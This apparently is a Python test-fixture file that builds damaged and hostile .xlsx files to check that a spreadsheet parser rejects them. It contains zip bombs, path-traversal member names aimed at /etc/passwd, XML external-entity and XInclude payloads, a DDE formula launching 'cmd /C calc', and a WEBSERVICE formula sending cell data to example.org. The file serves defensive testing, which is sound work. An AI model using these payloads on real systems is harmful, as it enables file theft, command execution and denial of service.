"""Hostile .xlsx files and their kin: damaged, lying or exploding packages, and XML made to do harm."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

from support.hostile_build import (
    CELL,
    DTD,
    OUTER,
    READ,
    Build,
    big,
    chance,
    given_cell,
    given_part,
    given_sheet,
    made_sheet,
    patched,
    sound,
    table,
)
from support.sheets_builders import (
    PACKAGE_RELS,
    RELS,
    content_types,
    parts,
    shared_strings,
    sheet,
    styles,
    workbook,
    write,
)

SHEET1 = b"xl/worksheets/sheet1.xml"
CENTRAL, LOCAL, END = b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06"


def truncated(keep: float | int) -> Build:
    def build(path: Path) -> None:
        whole = sound(path)
        path.write_bytes(whole[: int(len(whole) * keep) if isinstance(keep, float) else keep])

    return build


def lying_size(path: Path) -> None:
    """The directory and the local header announce 10 bytes of sheet1.xml."""
    whole = bytearray(sound(path))
    struct.pack_into("<I", whole, whole.find(SHEET1) - 8, 10)
    struct.pack_into("<I", whole, whole.rfind(SHEET1) - 22, 10)
    path.write_bytes(whole)


def directory_says(offset: int, layout: str, value: int) -> Build:
    """One field of the directory's first line is another; offsets as in the format's description."""
    return lambda path: path.write_bytes(patched(sound(path), CENTRAL, offset, layout, value))


def header_says(offset: int, layout: str, value: int) -> Build:
    """The same for the header before the first member's bytes."""
    return lambda path: path.write_bytes(patched(sound(path), LOCAL, offset, layout, value))


def end_says(offset: int, layout: str, value: int) -> Build:
    return lambda path: path.write_bytes(patched(sound(path), END, offset, layout, value, last=True))


def renamed_in_directory(path: Path) -> None:
    """The directory calls the sheet otherwise than the header before its bytes."""
    whole = bytearray(sound(path))
    at = whole.rfind(SHEET1)
    whole[at : at + len(SHEET1)] = SHEET1.replace(b"sheet1", b"sheet2")
    path.write_bytes(whole)


def nameless(path: Path) -> None:
    """The last line of the directory has its name as a comment, and none as a name."""
    whole = bytearray(sound(path))
    at = whole.rfind(CENTRAL)
    (length,) = struct.unpack_from("<H", whole, at + 28)
    struct.pack_into("<HHH", whole, at + 28, 0, 0, length)
    path.write_bytes(whole)


def in_front(data: bytes) -> Build:
    return lambda path: path.write_bytes(data + sound(path))


def behind(data: bytes) -> Build:
    return lambda path: path.write_bytes(sound(path) + data)


def overlapping(path: Path) -> None:
    """A thousand members are one and the same compressed megabyte, 60 times over the limit when unpacked."""
    content = parts()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, text in content.items():
            package.writestr(name, text)
        package.writestr("xl/media/a0000.bin", zlib.compress(bytes(range(256)) * 4000, 0)[:900_000])
    whole = buffer.getvalue()
    end = whole.rfind(END)
    start = struct.unpack_from("<I", whole, end + 16)[0]
    line = whole[whole.rfind(CENTRAL, 0, end) : end]
    lines = b"".join(line.replace(b"a0000", f"b{n:04}".encode()) for n in range(900))
    directory = whole[start:end] + lines
    count = len(content) + 1 + 900
    ending = struct.pack("<4s4H2LH", END, 0, 0, count, count, len(directory), start, 0)
    path.write_bytes(whole[:start] + directory + ending)


def overlapping_a_little(path: Path) -> None:
    """Two members are the same bytes, small enough for every limit."""
    content = sound(path)
    end = content.rfind(END)
    start = struct.unpack_from("<I", content, end + 16)[0]
    line = content[content.rfind(CENTRAL, 0, end) : end]
    assert b"sharedStrings" in line
    directory = content[start:end] + line.replace(b"sharedStrings", b"sharedStrinzz")
    count = struct.unpack_from("<H", content, end + 10)[0] + 1
    ending = struct.pack("<4s4H2LH", END, 0, 0, count, count, len(directory), start, 0)
    path.write_bytes(content[:start] + directory + ending)


def lying_zip64(path: Path) -> None:
    """The short end record counts three members; the long one, which zipfile believes, a hundred thousand."""
    content = sound(path)
    end = content.rfind(END)
    start = struct.unpack_from("<I", content, end + 16)[0]
    line = content[content.rfind(CENTRAL, 0, end) : end]
    lines = line * 100_000
    at = start + len(lines)
    record = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 100_000, 100_000, len(lines), start)
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
    path.write_bytes(
        content[:start] + lines + record + locator + struct.pack("<4s4H2LH", END, 0, 0, 3, 3, 150, start, 0)
    )


def honest_zip64(path: Path) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, text in parts().items():
            with package.open(name, "w", force_zip64=True) as member:
                member.write(text.encode() if isinstance(text, str) else text)


def second_end_in_comment(path: Path) -> None:
    sound(path)
    with zipfile.ZipFile(path, "a") as package:
        package.comment = struct.pack("<4s4H2LH", END, 0, 0, 0, 0, 0, 0, 0) + b"x" * 40


def many_members(path: Path) -> None:
    write(path, {**parts(), **{f"xl/junk/{n}.xml": "<a/>" for n in range(1001)}})


def a_hundred_and_one_sheets(path: Path) -> None:
    workbook(path, *[sheet() for _ in range(101)])


def encrypted_member(path: Path) -> None:
    whole = bytearray(sound(path))
    for signature, offset in ((LOCAL, 6), (CENTRAL, 8)):
        at = whole.find(signature)
        while at >= 0:
            struct.pack_into("<H", whole, at + offset, 1)
            at = whole.find(signature, at + 4)
    path.write_bytes(whole)


def strange_compression(method: int) -> Build:
    def build(path: Path) -> None:
        with zipfile.ZipFile(path, "w", method) as package:
            for name, text in parts().items():
                package.writestr(name, text, zipfile.ZIP_DEFLATED if "sheet1" not in name else method)

    return build


def nested_zip(path: Path) -> None:
    """A zip of a zip of thirty megabytes of nothing."""
    content = bytes(30_000_000)
    for name in ("零.xlsx", "里.zip", "外.zip"):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
            package.writestr(name, content)
        content = buffer.getvalue()
    path.write_bytes(content)


def relations(lines: str, part: str = "xl/_rels/workbook.xml.rels") -> Build:
    """The relationships of the workbook, written anew."""
    return given_part(part, f'<Relationships xmlns="{PACKAGE_RELS}">{lines}</Relationships>')


def relation(target: str, kind: str = "worksheet", more: str = "") -> str:
    return f'<Relationship Id="rId1" Type="{RELS}/{kind}" Target="{target}"{more}/>'


# Each kind of part that a parser of ours or, later, openpyxl opens.
PARTS = {
    "content types": "[Content_Types].xml", "root relations": "_rels/.rels", "workbook": "xl/workbook.xml",
    "relations": "xl/_rels/workbook.xml.rels", "texts": "xl/sharedStrings.xml", "styles": "xl/styles.xml",
    "sheet": "xl/worksheets/sheet1.xml", "comments": "xl/comments1.xml", "drawing": "xl/drawings/drawing1.xml",
    "old drawing": "xl/drawings/vmlDrawing1.vml", "theme": "xl/theme/theme1.xml", "chain": "xl/calcChain.xml",
    "properties": "docProps/core.xml", "own data": "customXml/item1.xml", "chart": "xl/charts/chart1.xml",
}  # fmt: skip


def with_dtd(part: str, dtd: str) -> Build:
    """The part as it is, behind a document type; a part that the workbook lacks, made."""

    def build(path: Path) -> None:
        content = parts(sst=shared_strings("<t>甲</t>"), style=styles(14))
        write(path, {**content, part: dtd + str(content.get(part, "<a>&b;</a>"))})

    return build


def rows(n: int, cell: str = "") -> str:
    return "".join(f'<row r="{r}">{cell.replace("#", str(r))}</row>' for r in range(1, n + 1))


def deep(n: int) -> str:
    """Elements in each other, of changing names, so that it is no bomb by its ratio."""
    names = [f"a{k}" for k in chance(1).choices(range(999), k=n)]
    return "".join(f"<{name}>" for name in names) + "".join(f"</{name}>" for name in reversed(names))


def digits(n: int) -> str:
    return "".join(chance(2).choices("0123456789", k=n))


def bands(n: int) -> str:
    """Hidden columns, time and again."""
    firsts = chance(3).choices(range(1, 900), k=n)
    return "<cols>" + "".join(f'<col min="{first}" max="16384" hidden="1"/>' for first in firsts) + "</cols>"


def long_namespace() -> str:
    """A name of a megabyte for a namespace that a hundred thousand elements use."""
    return f'<x xmlns:n="urn:{digits(1_000_000)}">' + "".join(f"<n:a{d}/>" for d in digits(100_000)) + "</x>"


NOT_XML: dict[str, bytes] = {
    "invalid UTF-8": sheet('<row r="1"><c r="A1" t="str"><v>@</v></c></row>').encode().replace(b"@", b"\xff\xfe\xfa"),
    "a NUL": sheet('<row r="1"><c r="A1" t="str"><v>@</v></c></row>').encode().replace(b"@", b"a\x00b"),
    "an overlong form": sheet('<row r="1"><c r="A1" t="str"><v>@</v></c></row>').encode().replace(b"@", b"\xc0\xbcx"),
    "half a surrogate": sheet('<row r="1"><c r="A1" t="str"><v>&#xD800;</v></c></row>').encode(),
    "a character that XML forbids": sheet('<row r="1"><c r="A1" t="str"><v>&#1;</v></c></row>').encode(),
    "an unknown entity": sheet('<row r="1"><c r="A1" t="str"><v>&amq;</v></c></row>').encode(),
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?>' + sheet().encode(),
    "UTF-32": sheet().encode("utf-32"),
    "two roots": sheet().encode() * 2,
}
TEXT = '<row r="1"><c r="A1" t="s"><v>{}</v></c></row>'

KINDS = table({
    # Damaged
    "four bytes": ("truncated", truncated(4)),
    "cut at a third": ("truncated", truncated(0.33)),
    "cut before the end": ("truncated", truncated(0.97)),
    "cut in the end record": ("truncated", truncated(-10)),
    "beginning lost": ("broken", lambda path: path.write_bytes(b"PK\x03\x04" + sound(path)[600:])),
    "no workbook.xml": ("broken", given_part("xl/workbook.xml", None)),
    "no sheet part": ("broken", given_part("xl/worksheets/sheet1.xml", None)),
    "no list of parts": ("broken", given_part("xl/_rels/workbook.xml.rels", None)),
    "no content types": ("broken", given_part("[Content_Types].xml", None)),
    "wrong content type": ("broken", given_part("[Content_Types].xml", content_types("application/xml"))),
    "content type of Word for the workbook": (
        "doc", given_part("[Content_Types].xml", content_types("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")),
    ),
    "no sheets": ("broken", given_sheet(sheet(), entries="<x/>")),
    "half a sheet": ("broken", given_sheet(sheet()[:-20])),
    "no XML": ("broken", given_sheet("甲乙丙")),
    "an empty sheet part": ("broken", given_sheet("")),
    "sheet in GBK": ("broken", given_part("xl/worksheets/sheet1.xml", b'<?xml version="1.0" encoding="GBK"?>' + sheet().encode())),
    **{f"sheet with {name}": ("broken", given_part("xl/worksheets/sheet1.xml", content)) for name, content in NOT_XML.items()},
    "sheet in UTF-16": (READ, given_part("xl/worksheets/sheet1.xml", ('<?xml version="1.0" encoding="UTF-16"?>' + sheet()).encode("utf-16"))),
    "damaged properties": ("broken", given_part("docProps/app.xml", "<a>")),
    # The zip itself
    "bomb by ratio": ("bomb", given_part("xl/media/a.bin", bytes(30_000_000))),
    "bomb by ratio in the sheet": ("bomb", made_sheet(lambda: CELL, lambda: " " * 30_000_000)),
    "bomb by count": ("bomb", many_members),
    "bomb by many middling parts": ("bomb", lambda path: write(path, {**parts(), **{f"xl/media/{n}.bin": bytes(999_999) for n in range(201)}})),
    "zip in a zip in a zip": ("archive", nested_zip),
    "overlapping members": ("bomb", overlapping),
    "two members of the same bytes": ("broken", overlapping_a_little),
    "lying size in directory and header": ("broken", lying_size),
    "lying size in the directory": ("broken", directory_says(24, "<I", 10)),
    "lying size in the header only": (READ, header_says(22, "<I", 10)),
    "too large a size": ("unsafe", directory_says(24, "<I", 900_000)),
    "a size of four gigabytes": ("unsafe", directory_says(24, "<I", 0xFFFFFFFE)),
    "wrong checksum": ("broken", directory_says(16, "<I", 7)),
    "wrong packed size": ("broken", directory_says(20, "<I", 7)),
    "a member behind the end": ("broken", directory_says(42, "<I", 0x7FFFFFFF)),
    "a member of 2107": (READ, directory_says(12, "<I", 0xFFFFFFFF)),
    "an unknown compression": ("broken", directory_says(10, "<H", 99)),
    "compression by Deflate64": ("broken", directory_says(10, "<H", 9)),
    "a name of 65,535 characters": ("broken", directory_says(28, "<H", 0xFFFF)),
    "a name of no characters": ("broken", directory_says(28, "<H", 0)),
    "a member without a name": ("broken", nameless),
    "a header that is none": ("unknown", header_says(0, "<I", 7)),
    "renamed in the directory": ("broken", renamed_in_directory),
    "a directory at another place": ("broken", end_says(16, "<I", 0x7FFFFFFF)),
    "a directory of no bytes": ("archive_empty", end_says(12, "<I", 0)),
    "a directory of four gigabytes": ("bomb", end_says(12, "<I", 0xFFFFFFF0)),
    "many disks": (READ, end_says(4, "<H", 7)),
    "a long comment that is not there": (READ, end_says(20, "<H", 0xFFFF)),
    "long end record that lies": ("archive_too_many", lying_zip64),
    "long end record that does not": (READ, honest_zip64),
    "second end record in the comment": ("archive_empty", second_end_in_comment),
    "bytes behind the end": (READ, behind(b"\0" * 100)),
    "a second workbook behind the end": (READ, lambda path: path.write_bytes(sound(path) + sound(path))),
    "program in front": ("unknown", in_front(b"MZ\x90\x00" + bytes(60))),
    "encrypted members": ("zip_password", encrypted_member),
    "strange compression": ("unsafe", strange_compression(zipfile.ZIP_LZMA)),
    "old compression": ("unsafe", strange_compression(zipfile.ZIP_BZIP2)),
    "doubled part": ("unsafe", lambda path: write(path, parts(), again=("xl/worksheets/sheet1.xml",))),
    "doubled list of types": ("unsafe", lambda path: write(path, parts(), again=("[Content_Types].xml",))),
    "doubled in another case": ("unsafe", given_part("XL/workbook.xml", "<a/>")),
    "absolute name": ("unsafe", given_part("/etc/passwd", "甲")),
    "escaping name": ("unsafe", given_part("xl/../../../etc/passwd", "甲")),
    "backslash name": ("unsafe", given_part("xl\\media\\a", "甲")),
    "name with a drive": ("unsafe", given_part("C:/a", "甲")),
    "name that turns its direction": (READ, given_part("xl/\u202egnp.exe", "甲")),
    # XML
    **{f"entities in the {name}": ("unsafe", with_dtd(part, DTD)) for name, part in PARTS.items()},
    **{f"outer entity in the {name}": ("unsafe", with_dtd(part, OUTER)) for name, part in PARTS.items() if "xl/w" in part or "sh" in part},
    "outer document type": ("unsafe", given_part("xl/theme/theme1.xml", '<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>')),
    "parameter entity": ("unsafe", given_part("docProps/core.xml", '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://example.org/x">%p;]><a/>')),
    "entities in UTF-16": ("unsafe", given_part("docProps/core.xml", (DTD + "<a/>").encode("utf-16"))),
    "included text": (READ, given_part("customXml/item1.xml", '<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="/etc/passwd" parse="text"/></a>')),
    "style sheet to fetch": (READ, given_part("xl/theme/theme1.xml", '<?xml-stylesheet href="http://example.org/x.xsl"?><a/>')),
    "200,000 levels": (READ, lambda path: workbook(path, extra={"docProps/app.xml": deep(200_000)})),
    "200,000 levels in the sheet": (READ, made_sheet(lambda: CELL, lambda: deep(200_000))),
    "attribute of a megabyte": (READ, given_sheet(sheet(CELL, f'<x y="{"字" * 300_000}"/>'))),
    "element of a megabyte": (READ, given_sheet(sheet(CELL, f"<x{'x' * 900_000}/>"))),
    "50,000 attributes": (READ, made_sheet(lambda: CELL, lambda: "<x " + " ".join(f'a{n}="1"' for n in range(50_000)) + "/>")),
    # Relationships
    "workbook that is its own sheet": (READ, relations(relation("workbook.xml"))),
    "sheet outside": ("broken", relations(relation("http://example.org/x.xml", more=' TargetMode="External"'))),
    "sheet above the package": ("broken", relations(relation("../../../../etc/passwd"))),
    "sheet that is its own list of parts": (READ, relations(relation("_rels/workbook.xml.rels"))),
    "two workbooks": ("unsafe", given_part("[Content_Types].xml", content_types(part="/xl/other.xml"))),
    "a root that leads to a sheet": ("unsafe", relations(relation("xl/worksheets/sheet1.xml", "officeDocument"), "_rels/.rels")),
    "a root that leads nowhere": ("unsafe", relations(relation("xl/none.xml", "officeDocument"), "_rels/.rels")),
    "two sheets that are one part": ("unsafe", given_sheet(sheet(), entries='<sheet name="A" r:id="rId1"/><sheet name="B" r:id="rId1"/>')),
    "two sheets of one name": ("unsafe", given_sheet(sheet(), entries='<sheet name="T" r:id="rId1"/><sheet name="t" r:id="rId1"/>')),
    "sheet without a name": ("unsafe", given_sheet(sheet(), entries='<sheet name="" r:id="rId1"/>')),
    "sheet name of 100,000 characters": (READ, given_sheet(sheet(), entries=f'<sheet name="{"表" * 100_000}" r:id="rId1"/>')),
    "external links": (READ, given_part("xl/externalLinks/externalLink1.xml", "<a/>")),
    "connection to a database": (READ, given_part("xl/connections.xml", "<a/>")),
    "macros": (READ, given_part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500))),
    "embedded program": (READ, given_part("xl/embeddings/oleObject1.bin", b"MZ" + bytes(500))),
    # Cells
    "no such text": ("broken", given_sheet(sheet(TEXT.format(3)))),
    "text number below zero": ("broken", given_sheet(sheet(TEXT.format(-1)), sst=shared_strings("<t>甲</t>"))),
    "text number beyond all": ("broken", given_sheet(sheet(TEXT.format("9" * 400)), sst=shared_strings("<t>甲</t>"))),
    "text number in other digits": ("broken", given_sheet(sheet(TEXT.format("０")), sst=shared_strings("<t>甲</t>"))),
    "false count of texts": (READ, given_sheet(sheet(TEXT.format(0)), sst=shared_strings("<t>甲</t>").replace("<sst", '<sst count="4000000000" uniqueCount="-1"'))),
    "a word for a number": ("broken", given_cell('<c r="A1"><v>3个</v></c>')),
    "infinite number": ("broken", given_cell('<c r="A1"><v>1e999</v></c>')),
    "1e400": ("broken", given_cell('<c r="A1"><v>1e400</v></c>')),
    "NaN": ("broken", given_cell('<c r="A1"><v>NaN</v></c>')),
    "INF": ("broken", given_cell('<c r="A1"><v>-INF</v></c>')),
    "number of a thousand digits": ("broken", given_cell(f'<c r="A1"><v>{"9" * 1000}</v></c>')),
    "number of 30,000 decimals": (READ, given_cell(f'<c r="A1"><v>0.{"9" * 30_000}</v></c>')),
    "date after all days": (READ, given_cell('<c r="A1" s="1"><v>1e300</v></c>', style=styles(14))),
    "date before all days": (READ, given_cell('<c r="A1" s="1"><v>-45000</v></c>', style=styles(14))),
    "date before 1904": (READ, given_cell('<c r="A1" s="1"><v>-1</v></c>', style=styles(14), workbook_pr='<workbookPr date1904="1"/>')),
    "duration beyond all": (READ, given_cell('<c r="A1" s="1"><v>-1e300</v></c>', style=styles("[h]:mm"))),
    "written date that is none": (READ, given_cell('<c r="A1" t="d"><v>0000-99-99T99:99</v></c>')),
    "unknown type": (READ, given_cell('<c r="A1" t="zzz"><v>3</v></c>')),
    "style that is not there": (READ, given_cell('<c r="A1" s="4000000"><v>3</v></c>', style=styles(14))),
    "style below zero": ("broken", given_cell('<c r="A1" s="-1"><v>3</v></c>', style=styles(14))),
    "no address": ("broken", given_cell('<c r="1A"><v>3</v></c>')),
    "row 0": ("broken", given_sheet(sheet('<row r="0"><c r="A0"><v>3</v></c></row>'))),
    "row 99999999999": ("broken", given_sheet(sheet('<row r="99999999999"><c r="A1"><v>3</v></c></row>'))),
    "cell in no row": ("broken", given_sheet(sheet("<c><v>3</v></c>"))),
    "column ZZZ": ("broken", given_cell('<c r="ZZZ1"><v>3</v></c>')),
    "one cell twice": ("unsafe", given_cell('<c r="A1"><v>3</v></c><c r="A1"><v>4</v></c>')),
    "cell of another row": ("unsafe", given_cell('<c r="A9"><v>3</v></c>')),
    "cell within a cell": (READ, given_cell('<c r="A1"><v>3</v><c r="B1"><v>4</v></c></c>')),
    "false dimension": (READ, given_sheet(sheet(CELL, before='<dimension ref="A1:XFD1048576"/>'))),
    "dimension that is too small": (READ, given_sheet(sheet('<row r="9"><c r="C9"><v>1</v></c></row>', before='<dimension ref="A1"/>'))),
    "far row": ("too_far", given_sheet(sheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'))),
    "far column": ("too_far", given_cell('<c r="XFD1"><v>1</v></c>')),
    "last cell of all": ("too_far", given_sheet(sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))),
    # Formulas
    "DDE formula": (READ, given_cell('<c r="A1"><f>cmd|\' /C calc\'!A0</f><v>0</v></c>')),
    "formula that fetches": (READ, given_cell('<c r="A1"><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>0</v></c>')),
    "formula of 8,000 brackets": (READ, given_cell(f'<c r="A1"><f>{"(" * 8000}1{")" * 8000}</f><v>1</v></c>')),
    "formula of 50,000 brackets": ("text_too_long", given_cell(f'<c r="A1"><f>{"(" * 50_000}</f><v>1</v></c>')),
    "shared formula of nobody": (READ, given_cell('<c r="A1"><f t="shared" si="9"/><v>1</v></c>')),
    "shared formula that cannot be taken apart": (
        READ, given_sheet(sheet('<row r="1"><c r="A1"><f t="shared" si="0" ref="A1:A2">"a{[(</f><v>1</v></c></row><row r="2"><c r="A2"><f t="shared" si="0"/></c></row>')),
    ),
    "shared formula of 30,000 characters in 400 cells": big(
        "too_much_text", made_sheet(lambda: f'<row r="1"><c r="A1"><f t="shared" si="0">{"B1+" * 10_000}1</f></c></row>' + "".join(
            f'<row r="{r}"><c r="A{r}"><f t="shared" si="0"/></c></row>' for r in range(2, 400))),
    ),
    "array formula over the whole sheet": (READ, given_cell('<c r="A1"><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c>')),
    # Too much
    "too many sheets": ("too_many_sheets", a_hundred_and_one_sheets),
    "whole sheet merged": ("merged_too_wide", given_sheet(sheet(CELL, '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'))),
    "many merges": ("too_many_merges", made_sheet(lambda: CELL, lambda: "<mergeCells>" + "".join(f'<mergeCell ref="A{r}:B{r}"/>' for r in range(1, 10_002)) + "</mergeCells>")),
    "100,000 merges": ("too_many_merges", made_sheet(lambda: CELL, lambda: "<mergeCells>" + "".join(f'<mergeCell ref="A{r}:B{r}"/>' for r in range(1, 100_001)) + "</mergeCells>")),
    "backward merge": ("broken", given_sheet(sheet(CELL, '<mergeCells><mergeCell ref="B2:A1"/></mergeCells>'))),
    "merge of nothing": ("broken", given_sheet(sheet(CELL, '<mergeCells><mergeCell ref=""/></mergeCells>'))),
    "merges upon each other": (READ, given_sheet(sheet(rows(3, '<c r="A#"><v>1</v></c><c r="B#"><v>2</v></c>'), '<mergeCells><mergeCell ref="A1:B2"/><mergeCell ref="B2:C3"/></mergeCells>'))),
    "long text": ("text_too_long", given_cell(f'<c r="A1" t="str"><v>{"字" * 32_768}</v></c>')),
    "text of ten megabytes": ("text_too_long", made_sheet(lambda: CELL, sst=lambda: shared_strings(f"<t>{digits(10_000_000)}</t>"))),
    "long shared text": ("text_too_long", given_sheet(sheet(), sst=shared_strings(f"<t>{'字' * 32_768}</t>"))),
    "one long text in many cells": ("too_much_text", made_sheet(lambda: rows(400, '<c r="A#" t="s"><v>0</v></c>'), sst=lambda: shared_strings(f"<t>{'字' * 32_000}</t>"))),
    "many styles": ("too_many_styles", given_sheet(sheet(), style=styles(*[0] * 20_001))),
    "number format of brackets": (READ, given_cell('<c r="A1" s="1"><v>3</v></c>', style=styles("[" * 300_000))),
    "number format of quotes": (READ, given_cell('<c r="A1" s="1"><v>3</v></c>', style=styles('"' * 100_001))),
    "100,000 hidden bands of all columns": (READ, made_sheet(lambda: CELL, lambda: bands(100_000))),
    "100,000 named ranges": (READ, lambda path: workbook(path, workbook_pr="<definedNames>" + "".join(f'<definedName name="n{n}">表1!$A$1</definedName>' for n in range(100_000)) + "</definedNames>")),
    # Big
    "a million styled empty rows": big(READ, made_sheet(lambda: CELL + "".join(f'<row r="{r}" s="1" customFormat="1"><c r="A{r}" s="1"/></row>' for r in range(2, 1_048_577)), style=lambda: styles(14))),
    "a million texts": big(READ, made_sheet(lambda: CELL, sst=lambda: shared_strings(*[f"<t>{n}</t>" for n in range(1_000_000)]))),
    "201,000 filled cells": big("too_many_cells", made_sheet(lambda: rows(20_100, "".join(f'<c r="{col}#"><v>1</v></c>' for col in "ABCDEFGHIJ")))),
    "two million levels": big(READ, lambda path: workbook(path, extra={"docProps/app.xml": deep(2_000_000)})),
    "seven million tags": big("too_many_tags", made_sheet(lambda: CELL, lambda: "".join(f"<a{d}/>" for d in digits(7_000_000)))),
    "two million hidden bands of all columns": big(READ, made_sheet(lambda: CELL, lambda: bands(2_000_000))),
    "namespace of a megabyte": big("unsafe", made_sheet(lambda: CELL, long_namespace)),
    "number format of a million brackets": big(READ, lambda path: workbook(path, style=styles("".join(f"[{d}" for d in digits(1_000_000))))),
}, "xlsx")  # fmt: skip
